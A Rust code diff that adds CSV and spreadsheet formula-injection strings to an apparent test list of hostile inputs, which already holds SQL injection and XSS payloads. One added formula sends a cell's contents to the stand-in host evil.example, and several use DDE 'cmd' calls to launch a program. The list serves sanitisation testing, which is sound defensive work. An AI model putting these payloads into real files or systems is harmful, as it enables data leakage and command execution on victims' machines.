@@ -24,6 +24,14 @@ pub const TEXT: &[&str] = &[
     "' OR '1'='1'; DROP TABLE chat; --",
     "%3Cscript%3Ewindow.__pwned=1%3C/script%3E",
     "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
+    // Formulas a spreadsheet would run from an exported file (CSV injection).
+    "=HYPERLINK(\"//evil.example/?leak=\"&A1,\"Bấm vào\")",
+    "+84 cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "dòng một\r\ndòng \"hai\", ba",
 ];
 
 /// The one genuine product page among them (the first customer's page, and a thread's first
